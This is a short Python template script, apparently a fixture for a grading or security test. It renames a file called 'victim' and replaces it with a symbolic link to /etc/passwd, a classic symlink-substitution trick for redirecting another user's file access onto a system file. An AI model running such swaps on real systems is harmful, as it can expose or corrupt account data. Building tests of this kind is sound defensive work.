"""Moves a file of the grader's user away and puts a link in its place."""
import os

os.rename("@SCENE@/victim", "@SCENE@/@MARK@")
os.symlink("/etc/passwd", "@SCENE@/victim")
